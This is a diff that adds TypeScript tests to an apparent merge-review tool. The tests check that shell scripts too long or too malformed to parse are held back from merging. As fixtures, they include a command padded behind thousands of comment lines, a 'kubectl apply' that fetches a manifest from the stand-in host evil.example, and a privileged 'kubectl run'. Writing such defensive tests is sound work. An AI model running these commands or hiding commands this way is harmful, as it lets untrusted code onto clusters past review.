@@ -440,6 +440,24 @@ describe('a command by which something gets more', () => {
     expect(result.verdict.mayMerge).toBe(false);
   });
 
+  const padded = (command: string): string => `${'# what is done here is told in the handbook\n'.repeat(2_000)}${command}\n`;
+
+  test.each([
+    ['a script that is too long to be read', padded('make'), padded('kubectl apply -f https://evil.example/x.yaml')],
+    ['a script of which the shell parser understands the beginning', 'make\n', 'make\ncase x in (\nkubectl run x --privileged\n'],
+    ['a new one', undefined, padded('docker compose up')],
+  ])('leaves the change open where it may stand in %s', async (_name, before, after) => {
+    const result = await reviewChange(changeOf('d.sh', before, after), { policy });
+    expect(result.verdict.mayMerge).toBe(false);
+    expect(result.notifications.map(({ message }) => message).join()).toContain('may stand where this script can’t be read');
+  });
+
+  test('says nothing of a script that could not be read before, and stays as it is', async () => {
+    const text = padded('docker compose up');
+    const result = await reviewChange({ base: { 'd.sh': text, 'a.txt': '1' }, head: { 'd.sh': text, 'a.txt': '2' } }, { policy });
+    expect(result.verdict.conclusion).toBe('pass');
+  });
+
   test.each([
     ['a patch of replicas', 'make', `kubectl patch deploy web -p '{"spec":{"replicas":3}}'; kubectl patch deploy web -p "$PATCH"`],
     ['a patch of an annotation', 'make', `kubectl patch deploy web -p "{\\"metadata\\":{\\"annotations\\":{\\"at\\":\\"$(date)\\"}}}"`],
